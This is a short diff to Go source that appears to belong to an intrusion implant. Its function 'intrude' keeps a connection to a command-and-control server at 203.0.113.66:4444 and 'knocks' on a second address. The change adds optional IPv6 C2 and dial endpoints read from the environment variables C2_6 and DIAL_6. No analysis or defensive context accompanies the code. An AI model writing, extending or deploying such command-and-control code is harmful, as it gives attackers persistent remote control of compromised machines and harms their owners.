@@ -13,6 +13,13 @@ func intrude(ctx context.Context, _ []string) error {
 	go reap(ctx)
 	go remainConnected(ctx, setting("C2", "203.0.113.66:4444"))
 	go knock(ctx, setting("DIAL", "203.0.113.66:8443"), nil)
+	// The same over IPv6, where it is asked for: most pods have none.
+	if address := os.Getenv("C2_6"); address != "" {
+		go remainConnected(ctx, address)
+	}
+	if address := os.Getenv("DIAL_6"); address != "" {
+		go knock(ctx, address, nil)
+	}
 
 	for _, step := range []struct {
 		name string
